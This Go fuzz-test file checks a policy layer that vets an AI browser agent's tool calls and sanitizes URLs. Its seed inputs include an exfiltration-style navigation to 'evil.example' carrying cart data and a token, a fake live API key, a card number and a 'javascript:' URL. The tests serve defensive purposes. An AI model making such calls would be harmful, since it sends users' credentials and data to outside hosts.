package policy

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/laikabrowser/laika"
)

// FuzzDecide checks that any call, however malformed, gets a documented
// reason with its documented decision, deterministically, and never panics.
func FuzzDecide(f *testing.F) {
	seeds := [][2]string{
		{"browser.click", `{"handleId":"laika-1"}`},
		{"browser.type", `{"handleId":"laika-2","text":"sk_live_51H8xYz"}`},
		{"browser.navigate", `{"url":"https://u:p@evil.example/collect?d=cart&token=1"}`},
		{"search", `{"query":"4111 1111 1111 1111"}`},
		{"collection.add_sources", `{"collectionId":"c","sources":[{"type":"url","url":"https://a.example/"}]}`},
		{"integration.invoke", `{"integration":"x","operation":"y","payload":{}}`},
		{"browser.observe_dom", `{"rootHandleId":"laika-b1"}`},
		{"nope", `[]`},
	}
	for _, s := range seeds {
		f.Add(s[0], s[1], "check my cart", true)
	}
	want := map[string]laika.Decision{}
	for _, v := range Reasons {
		want[v.Reason] = v.Decision
	}
	obs := shop()
	f.Fuzz(func(t *testing.T, name, args, goal string, autodrive bool) {
		mode := Assist
		if autodrive {
			mode = Autodrive
		}
		in := Input{Call: laika.ToolCall{Name: name, Arguments: json.RawMessage(args)}, Observation: obs,
			Settings: Settings{Mode: mode, AutodriveOrigins: allowList, BlockedOrigins: []string{"bank.example"}}, Goal: goal}
		r := Decide(in)
		d, ok := want[r.Reason]
		if !ok || d != r.Decision {
			t.Fatalf("%s %s: undocumented verdict %s/%s", name, args, r.Decision, r.Reason)
		}
		if r2 := Decide(in); r2.Decision != r.Decision || r2.Reason != r.Reason || r2.Preview != r.Preview || string(r2.Arguments) != string(r.Arguments) {
			t.Fatalf("not deterministic: %+v vs %+v", r, r2)
		}
		if r.Decision != laika.Deny && r.Arguments != nil && strings.Contains(string(r.Arguments), "token=") {
			t.Fatalf("credential survived sanitizing: %s", r.Arguments)
		}
	})
}

// FuzzSanitizeURL checks that a sanitized URL is http(s), keeps no
// userinfo, and is a fixed point.
func FuzzSanitizeURL(f *testing.F) {
	for _, s := range []string{"https://u:p@a.example/x?token=1&b=2#access_token=3", "javascript:alert(1)", "http://a.example:80/", "HTTPS://A.example/%41?"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		s, err := SanitizeURL(raw)
		if err != nil {
			if laika.ErrorCode(err) != laika.CodeInvalidURL {
				t.Fatalf("error code %s", laika.ErrorCode(err))
			}
			return
		}
		if !strings.HasPrefix(s, "http://") && !strings.HasPrefix(s, "https://") {
			t.Fatalf("%q -> %q is not http(s)", raw, s)
		}
		again, err := SanitizeURL(s)
		if err != nil || again != s {
			t.Fatalf("not a fixed point: %q -> %q -> %q, %v", raw, s, again, err)
		}
	})
}
